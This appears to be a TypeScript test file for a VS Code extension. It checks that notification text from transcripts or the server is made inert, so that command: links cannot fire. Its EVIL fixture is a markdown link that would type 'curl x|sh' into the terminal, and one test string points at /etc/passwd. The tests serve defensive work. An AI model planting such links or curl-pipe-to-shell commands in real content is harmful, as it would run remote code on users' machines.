/** Notifications make a link of `[text](command:…)` in their message: text from a transcript or
 * the server is made inert before it is shown (decision 0417). */
import './clientHarness';

import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { test } from 'node:test';

import { RememClient } from '../src/client';
import * as flows from '../src/flows';
import { inert } from '../src/format';
import { editorUi } from '../src/vscodeapi';
import { ui } from './clientHarness';
import { node } from './fixtures';

// A session title as a transcript can carry it: a notification would show "Open the fix" as a link
// that types `curl x|sh` into the terminal.
const EVIL = '[Open the fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
// VS Code's own pattern of a link in a notification (src/vs/base/common/linkedText.ts).
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

const log = { info: () => undefined, warn: () => undefined, error: () => undefined };

function clear(): void {
  ui.infos.length = 0;
  ui.warnings.length = 0;
  ui.errors.length = 0;
}

test('inert text makes no link, and reads the same', () => {
  for (const text of [EVIL, '[a](https://x.example)', '[f](file:///etc/passwd)', 'x [y](command:z "t") w']) {
    assert.match(text, LINK);
    assert.doesNotMatch(inert(text), LINK, inert(text));
    assert.equal(inert(text).replaceAll('\u200b', ''), text);
  }
  assert.equal(inert('Branched “a [draft]” (after turn 2)'), 'Branched “a [draft]” (after turn 2)');
});

test('a flow\'s message quoting a session\'s title reaches the notification inert', async () => {
  clear();
  const server: flows.Server = {
    request: async <R>() => ({ nodes: [node('s1', { title: EVIL })] }) as R,
    command: async <R>() => ({ id: 'child', command: null, note: null }) as R,
  };
  const ctx: flows.FlowContext = {
    ui: { ...editorUi, openTranscript: async () => undefined, openReceipt: async () => undefined },
    server,
    folders: () => [{ name: 'p', cwd: '/p' }],
    now: () => 0,
    activeSession: () => undefined,
    refreshSessions: () => undefined,
    refreshMemory: () => undefined,
  };
  ui.choose = (buttons) => (buttons.includes('Branch') ? 'Branch' : undefined); // the modal confirmation
  try {
    await flows.run(() => flows.branchFromTurn(ctx, { session: 's1', turn: 1, label: EVIL }));
    // An in-file branch's F2/Delete: the refusal quotes its title.
    const branch = node('b1', { kind: 'branch', title: EVIL, parent: 's1', forkTurn: 1 });
    await flows.run(() => flows.setArchived(ctx, { type: 'session', cwd: '/p', node: branch }, true));
  } finally {
    ui.choose = () => undefined;
  }
  const said = [...ui.infos, ...ui.warnings];
  assert.ok(said.some((m) => m.startsWith('Branched “[Open the fix]')), said.join('\n'));
  assert.ok(said.some((m) => m.includes('is an in-file branch')), said.join('\n'));
  for (const message of said) assert.doesNotMatch(message, LINK, message);
});

test('a server\'s error message reaches the notification inert', async () => {
  clear();
  const client = new RememClient(log as never);
  await client.start();
  const middleware = ui.options?.middleware;
  assert.ok(middleware);
  const failing = () => Promise.reject(new Error(`cannot rename ${EVIL}`));
  await assert.rejects(Promise.resolve(middleware.executeCommand('remem.lsp.rename', [{}], failing)));
  assert.equal(ui.errors.length, 1);
  assert.ok(ui.errors[0].includes('cannot rename [Open the fix]'), ui.errors[0]);
  assert.doesNotMatch(ui.errors[0], LINK);
});

test('every notification is shown through the one place that makes its text inert', () => {
  const src = path.join(__dirname, '..', 'src');
  for (const file of fs.readdirSync(src)) {
    if (file === 'vscodeapi.ts') continue;
    const text = fs.readFileSync(path.join(src, file), 'utf8');
    assert.doesNotMatch(text, /show(Information|Warning|Error)Message/, `${file} shows a notification itself`);
  }
  const api = fs.readFileSync(path.join(src, 'vscodeapi.ts'), 'utf8');
  for (const call of api.matchAll(/show(?:Information|Warning|Error)Message\(([^,)]*)/g)) {
    assert.match(call[1], /^inert\(/, call[0]);
  }
});
